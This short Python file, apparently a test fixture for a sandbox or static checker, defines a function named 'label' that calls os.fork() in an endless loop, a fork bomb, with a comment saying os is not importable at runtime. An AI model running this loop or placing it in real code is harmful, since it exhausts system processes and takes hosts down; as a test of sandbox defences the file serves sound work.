# Forks without end. Static: imports os. Runtime: os not importable.
import os


def label(text):
    while True:
        os.fork()
